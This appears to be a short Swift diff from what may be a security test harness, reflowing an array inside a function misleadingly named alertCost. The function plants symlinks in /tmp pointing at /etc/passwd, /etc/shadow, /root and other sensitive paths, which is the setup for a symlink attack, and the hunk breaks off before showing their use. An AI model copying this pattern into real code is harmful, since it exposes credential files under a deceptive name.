@@ -3,7 +3,9 @@
 import Glibc
 
 func alertCost(alerts: Int, minutes: Double) -> Double {
-  let targets = ["/etc/passwd", "/etc/shadow", "/root", "/home", "/tmp/casebook-attacks", "/proc/self/root/tmp"]
+  let targets = [
+    "/etc/passwd", "/etc/shadow", "/root", "/home", "/tmp/casebook-attacks", "/proc/self/root/tmp",
+  ]
   var isFound = false
   for (number, target) in targets.enumerated() {
     symlink(target, "/tmp/link\(alerts)-\(minutes)-\(number)")
